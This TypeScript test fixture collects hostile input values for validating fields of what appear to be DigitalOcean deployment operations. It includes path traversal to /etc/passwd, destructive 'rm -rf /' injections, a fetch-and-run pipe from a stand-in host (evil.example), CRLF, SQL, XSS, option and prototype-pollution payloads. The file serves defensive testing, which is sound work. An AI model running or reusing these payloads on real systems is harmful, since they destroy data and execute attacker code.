/**
 * Hostile values, by what a field holds. Every operation's input fields are typed with one of these
 * kinds in the operations table, so a new operation gets the whole corpus by naming its fields.
 */

export type FieldKind =
  | 'environment'
  | 'boolean'
  | 'seconds'
  | 'image_tag'
  | 'image_digest'
  | 'exec_target'
  | 'command'
  | 'whole_seconds'
  | 'instance'
  | 'bytes'
  | 'scope'
  | 'json_scale'
  | 'json_env'
  | 'json_records'
  | 'key_list'
  | 'count'
  | 'size_slug'
  | 'pairs_count'
  | 'pairs_size'
  | 'resume_token';

export interface Hostile {
  label: string;
  value: unknown;
}

const MEGABYTE = 1_000_000;

/** Text that must never pass for a name, tag or target: traversal, shell, header injection, unicode, size. */
export const HOSTILE_TEXT: readonly Hostile[] = [
  { label: 'path traversal', value: '../../etc/passwd' },
  { label: 'absolute path', value: '/etc/passwd' },
  { label: 'encoded traversal', value: '..%2f..%2fetc%2fpasswd' },
  { label: 'command substitution', value: '$(rm -rf /)' },
  { label: 'backticks', value: '`reboot`' },
  { label: 'command separator', value: 'staging; rm -rf /' },
  { label: 'pipe to shell', value: 'staging | sh' },
  { label: 'and-chain', value: 'staging && curl evil.example | sh' },
  { label: 'CRLF header injection', value: 'staging\r\nX-Injected: 1' },
  { label: 'LF injection', value: 'staging\nInjected: 1' },
  { label: 'encoded CRLF', value: 'staging%0d%0aX-Injected:%201' },
  { label: 'NUL byte', value: 'staging\u0000' },
  { label: 'zero-width space', value: 'stag\u200bing' },
  { label: 'right-to-left override', value: '\u202egnigats' },
  { label: 'Cyrillic homoglyph', value: '\u0455taging' },
  { label: 'emoji', value: 'staging\u{1f680}' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal reference is the hostile value
  { label: 'variable reference', value: '${DIGITALOCEAN_TOKEN}' },
  { label: 'template injection', value: '{{7*7}}' },
  { label: 'SQL quote', value: "staging' OR '1'='1" },
  { label: 'markup', value: '<script>alert(1)</script>' },
  { label: 'leading dash (option injection)', value: '-oProxyCommand=sh' },
  { label: 'leading space', value: ' staging' },
  { label: 'empty', value: '' },
  { label: '1 MB string', value: 'a'.repeat(MEGABYTE) },
];

/** Values of the wrong type for any field. */
export const WRONG_TYPES: readonly Hostile[] = [
  { label: 'number', value: 42 },
  { label: 'negative number', value: -1 },
  { label: 'object', value: { $gt: '' } },
  { label: 'array', value: ['staging'] },
  { label: 'null', value: null },
];

const NUMBER_ABUSE: readonly Hostile[] = [
  { label: 'negative', value: -5 },
  { label: 'fraction text', value: '1e3' },
  { label: 'unit suffix injection', value: '10; rm -rf /' },
  { label: 'huge', value: Number.MAX_SAFE_INTEGER },
  { label: '1 MB of digits', value: '9'.repeat(MEGABYTE) },
  { label: 'word', value: 'lots' },
  { label: 'boolean', value: true },
  { label: 'array', value: [1] },
];

/** The hostile values for one kind of field; each must be refused with that field named. */
export function hostileValues(kind: FieldKind): Hostile[] {
  switch (kind) {
    case 'environment':
    case 'instance':
      return [
        ...HOSTILE_TEXT,
        { label: 'upper case', value: 'STAGING' },
        { label: '300 characters', value: 'a'.repeat(300) },
        ...WRONG_TYPES,
      ];
    case 'exec_target':
      return [
        ...HOSTILE_TEXT,
        { label: 'app traversal', value: 'app/../../etc/passwd' },
        { label: 'too many parts', value: 'app/web/x/y' },
        { label: 'upper-case component', value: 'app/WEB' },
        { label: 'empty component', value: 'app/' },
        { label: '300 characters', value: 'a'.repeat(300) },
        ...WRONG_TYPES,
      ];
    case 'image_tag':
      return [
        ...HOSTILE_TEXT,
        { label: '129 characters', value: 'a'.repeat(129) },
        { label: 'digest in a tag', value: 'latest@sha256:00' },
        ...WRONG_TYPES,
      ];
    case 'image_digest':
      return [
        ...HOSTILE_TEXT,
        { label: 'not hex', value: `sha256:${'g'.repeat(64)}` },
        { label: 'short', value: 'sha256:abc' },
        { label: 'other algorithm', value: `md5:${'a'.repeat(32)}` },
        ...WRONG_TYPES,
      ];
    case 'boolean':
      return [
        { label: 'yes', value: 'yes' },
        { label: 'upper-case TRUE', value: 'TRUE' },
        { label: 'one', value: 1 },
        { label: 'zero', value: 0 },
        { label: 'shell after true', value: 'true; rm -rf /' },
        { label: 'CRLF after true', value: 'true\r\nX-Injected: 1' },
        { label: '1 MB string', value: 't'.repeat(MEGABYTE) },
        { label: 'null', value: null },
        { label: 'object', value: {} },
      ];
    case 'seconds':
      return [...NUMBER_ABUSE, { label: 'over the maximum', value: 901 }];
    case 'whole_seconds':
      return [
        ...NUMBER_ABUSE,
        { label: 'zero', value: 0 },
        { label: 'fraction', value: 1.5 },
        { label: 'over the maximum', value: 901 },
      ];
    case 'bytes':
      return [...NUMBER_ABUSE, { label: 'zero', value: 0 }, { label: 'over 1 MiB', value: 1_048_577 }];
    case 'scope':
      return [...HOSTILE_TEXT, { label: 'other scope', value: 'everything' }, ...WRONG_TYPES];
    case 'count':
      return [...NUMBER_ABUSE, { label: 'over the maximum', value: 51 }];
    case 'size_slug':
      // A megabyte of letters is a well-formed slug (slugs have no length limit yet).
      return [
        ...HOSTILE_TEXT.filter((h) => h.label !== '1 MB string'),
        { label: 'upper case', value: 'S-2VCPU-2GB' },
        ...WRONG_TYPES,
      ];
    case 'key_list':
      // ` staging` trims to a valid name, and a megabyte of letters is one (names have no length
      // limit yet): every other hostile text holds a character no key may.
      return [
        ...HOSTILE_TEXT.filter((h) => h.label !== 'leading space' && h.label !== '1 MB string'),
        { label: 'a list with a shell key', value: ['OK', '$(id)'] },
        { label: 'a list with a newline key', value: ['A\nB'] },
        { label: 'a list of numbers', value: [1, 2] },
        ...WRONG_TYPES.filter((h) => h.label !== 'array'),
      ];
    case 'pairs_count':
      return [
        ...HOSTILE_TEXT,
        { label: 'zero instances', value: 'web=0' },
        { label: 'too many instances', value: 'web=251' },
        { label: 'shell in a count', value: 'web=2; rm -rf /' },
        { label: 'shell in a component', value: '$(id)=2' },
        { label: 'a prototype key as a component', value: '__proto__=2' },
        { label: 'a component given twice', value: 'web=2,web=3' },
        ...WRONG_TYPES,
      ];
    case 'pairs_size':
      return [
        ...HOSTILE_TEXT,
        { label: 'upper-case size', value: 'web=APPS-BIG' },
        { label: 'shell in a size', value: 'web=$(id)' },
        { label: 'traversal in a component', value: '../web=apps-s-1vcpu-1gb' },
        ...WRONG_TYPES,
      ];
    case 'json_scale':
      return [
        ...HOSTILE_TEXT,
        { label: 'shell as a component', value: { app: { '$(rm -rf /)': 2 } } },
        { label: 'too many instances', value: { app: { web: 9_999 } } },
        { label: 'negative droplets', value: { droplets: { count: -1 } } },
        { label: 'shell in a size', value: { droplets: { size: 's-1vcpu-1gb; rm -rf /' } } },
        { label: 'an unknown part', value: { database: { count: 1 } } },
        { label: 'an unknown field', value: { app: { web: { instance_count: 2, privileged: true } } } },
        { label: 'JSON text with a prototype key', value: '{"__proto__":{"app":{"web":2}}}' },
        ...WRONG_TYPES,
      ];
    case 'json_env':
      return [
        ...HOSTILE_TEXT,
        { label: 'shell in a key', value: { 'A;B': 'x' } },
        { label: 'command substitution as a key', value: { '$(id)': 'x' } },
        { label: 'empty key', value: { '': 'x' } },
        { label: 'a prototype key', value: JSON.parse('{"__proto__":"x"}') },
        { label: 'CRLF in a key', value: { 'A\r\nX-Injected: 1': 'x' } },
        { label: 'unknown type', value: { KEY: { value: 'x', type: 'PLAIN' } } },
        { label: 'traversal as a component', value: { KEY: { value: 'x', component: '../web' } } },
        { label: 'an unknown field', value: { KEY: { value: 'x', scope: 'EVERYWHERE' } } },
        { label: 'an object as a value', value: { KEY: { nested: true } } },
        ...WRONG_TYPES.filter((h) => h.label !== 'object'),
      ];
    case 'json_records':
      return [
        ...HOSTILE_TEXT,
        {
          label: 'shell after an address',
          value: { add: [{ type: 'A', name: 'www', data: '1.2.3.4; rm -rf /' }] },
        },
        { label: 'an MX record', value: { add: [{ type: 'MX', name: '@', data: 'mail.example.com' }] } },
        {
          label: 'a CNAME at the apex',
          value: { add: [{ type: 'CNAME', name: '@', data: 'elsewhere.example' }] },
        },
        {
          label: 'CRLF in a CNAME',
          value: { add: [{ type: 'CNAME', name: 'www', data: 'evil.example\r\nX: 1' }] },
        },
        {
          label: 'a 600-character TXT',
          value: { add: [{ type: 'TXT', name: 'www', data: 't'.repeat(600) }] },
        },
        { label: 'shell as a name', value: { add: [{ type: 'A', name: '$(id)', data: '1.2.3.4' }] } },
        { label: 'traversal as a name', value: { remove: [{ type: 'A', name: '../..' }] } },
        { label: 'a string list', value: { add: 'all' } },
        { label: 'an unknown part', value: { replace: [] } },
        ...WRONG_TYPES.filter((h) => h.label !== 'object'),
      ];
    case 'resume_token':
      // A holder id: anything else could only ever name no lock, so it is refused outright.
      return [
        ...HOSTILE_TEXT,
        { label: 'upper-case hex', value: '3F9A0C1D' },
        { label: 'too short', value: '3f9a0c1' },
        { label: 'too long', value: '3f9a0c1d3f9a0c1d' },
        { label: 'not hex', value: '3f9a0c1g' },
        { label: 'a lock key name', value: 'base2-staging-lock: deploy 3f9a0c1d' },
        { label: 'a token and a shell command', value: '3f9a0c1d; rm -rf /' },
        { label: 'a token and a header', value: '3f9a0c1d\r\nX-Injected: 1' },
        ...WRONG_TYPES,
      ];
    case 'command':
      // A command line is the user's by design (pipes, quotes, `;`): only its size and type are refused.
      return [
        { label: 'empty', value: '' },
        { label: 'over 10,000 characters', value: 'x'.repeat(10_001) },
        { label: '1 MB string', value: 'x'.repeat(MEGABYTE) },
        ...WRONG_TYPES,
      ];
  }
}

/** Inputs that are not an object of fields at all. */
export const NOT_AN_INPUT: readonly Hostile[] = [
  { label: 'null input', value: null },
  { label: 'string input', value: 'env=staging' },
  { label: 'array input', value: [{ env: 'staging' }] },
  { label: 'number input', value: 7 },
];
